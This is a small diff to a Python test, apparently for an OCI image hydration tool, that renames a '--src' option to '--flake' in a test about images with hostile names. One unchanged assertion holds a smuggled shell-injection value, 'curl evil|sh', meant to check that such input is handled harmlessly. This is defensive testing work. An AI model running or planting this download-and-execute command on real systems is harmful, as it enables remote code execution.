@@ -145,7 +145,7 @@ def test_an_image_that_withholds_by_a_hostile_name(
     project: Path, layout: Path, cache: Path, tmp_path: Path
 ) -> None:
     image = f"oci:{layout}:seed"
-    ran = nix_seed("hydrate", image, "--root", tmp_path / "root", "--src", project, cache=cache)
+    ran = nix_seed("hydrate", image, "--root", tmp_path / "root", "--flake", project, cache=cache)
     assert ran.code == 2
     assert is_harmless(ran.err)
     assert "tool-1.0: licence a'; curl evil|sh; '" in ran.err
